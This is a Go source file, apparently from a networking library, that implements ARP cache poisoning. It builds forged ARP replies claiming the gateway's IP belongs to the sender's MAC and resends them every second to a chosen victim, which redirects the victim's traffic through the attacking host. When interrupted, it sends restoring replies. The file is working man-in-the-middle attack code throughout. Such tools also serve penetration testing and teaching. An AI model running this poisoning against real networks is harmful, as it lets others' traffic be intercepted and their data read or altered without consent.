package arp

import (
	"fmt"
	"os"
	"os/signal"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/pol4bear/pnet/addr"
)

// PoisonState tracks the lifecycle of a single Poison call: INIT before
// any frame is sent, ACTIVE while forged replies are being sent, RECOVERING
// once a termination signal has triggered the restoration burst, and DONE
// once that burst completes. There is no transition back from RECOVERING
// to ACTIVE.
type PoisonState int32

const (
	PoisonInit PoisonState = iota
	PoisonActive
	PoisonRecovering
	PoisonDone
)

// String renders the state for logging.
func (s PoisonState) String() string {
	switch s {
	case PoisonInit:
		return "INIT"
	case PoisonActive:
		return "ACTIVE"
	case PoisonRecovering:
		return "RECOVERING"
	case PoisonDone:
		return "DONE"
	default:
		return "UNKNOWN"
	}
}

// recoveryBursts is how many recovery replies are sent, one second apart,
// once a termination signal arrives.
const recoveryBursts = 10

// poisonInterval is how often the forged reply is retransmitted while
// poisoning is active.
const poisonInterval = time.Second

// buildPoisonFrames constructs the forged reply that misdirects victimIP's
// ARP cache (claiming gatewayIP lives at ourMAC) and the recovery reply
// that reasserts the true mapping (gatewayIP lives at gatewayMAC). Building
// them as a pure function keeps the wire layout independently testable
// from the signal-driven send loop.
func buildPoisonFrames(ourMAC, gatewayMAC addr.MAC, gatewayIP addr.IPv4, victimMAC addr.MAC, victimIP addr.IPv4) (forged, recovery *Frame) {
	forged = MakeFrame(ourMAC, victimMAC, OperationReply, ourMAC, gatewayIP, victimMAC, victimIP)
	// The recovery sender is the gateway's own MAC, not ours: if the
	// recovery packet looked like the original forged reply, some
	// devices (observed on Android) fail to re-learn the correct mapping.
	recovery = MakeFrame(gatewayMAC, victimMAC, OperationReply, gatewayMAC, gatewayIP, victimMAC, victimIP)
	return forged, recovery
}

// Poison poisons victimIP's ARP cache so that traffic to the gateway is
// misdirected to this host, until interrupted. On SIGINT or SIGTERM it
// sends the true mapping 10 times, one second apart, before returning.
// timeoutSeconds bounds each of the resolves (victim and gateway) needed
// before poisoning can begin.
func (e *Engine) Poison(victimIP addr.IPv4, timeoutSeconds int) error {
	rc, err := e.resolveRouteContext(victimIP)
	if err != nil {
		return err
	}

	victimMAC, err := e.Resolve(victimIP, timeoutSeconds)
	if err != nil {
		return fmt.Errorf("%w: resolving victim MAC: %v", ErrRuntime, err)
	}

	gateway, err := e.gatewayInfo(rc.ifi.Name, timeoutSeconds)
	if err != nil {
		return err
	}

	conn, err := openSocket(rc.ifi)
	if err != nil {
		return err
	}
	restoreConn, err := openSocket(rc.ifi)
	if err != nil {
		conn.Close()
		return err
	}

	forged, recovery := buildPoisonFrames(rc.netinfo.MAC, gateway.MAC, gateway.IP, victimMAC, victimIP)
	victimHW := hardwareAddr(victimMAC)

	var state atomic.Int32
	state.Store(int32(PoisonInit))
	var stop atomic.Bool

	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, syscall.SIGINT, syscall.SIGTERM)
	defer signal.Stop(sigCh)

	// done lets the main loop wake the signal-waiter on an ordinary exit
	// (e.g. a send failure) so it never blocks forever waiting on a
	// signal that will never arrive.
	done := make(chan struct{})
	recoveryDone := make(chan struct{})
	go func() {
		defer close(recoveryDone)
		select {
		case <-done:
			return
		case <-sigCh:
		}
		state.Store(int32(PoisonRecovering))
		stop.Store(true)
		e.logger.Info("poison: recovering victim's ARP cache", "victim", victimIP, "gateway", gateway.IP)
		for i := 0; i < recoveryBursts; i++ {
			if err := sendFrame(restoreConn, recovery, victimHW); err != nil {
				e.logger.Warn("poison: recovery send failed", "victim", victimIP, "error", err)
			}
			time.Sleep(poisonInterval)
		}
		state.Store(int32(PoisonDone))
	}()

	state.CompareAndSwap(int32(PoisonInit), int32(PoisonActive))
	for !stop.Load() {
		if err := sendFrame(conn, forged, victimHW); err != nil {
			e.logger.Warn("poison: forged send failed, stopping", "victim", victimIP, "error", err)
			break
		}
		time.Sleep(poisonInterval)
	}

	close(done)
	conn.Close()
	<-recoveryDone
	restoreConn.Close()
	return nil
}
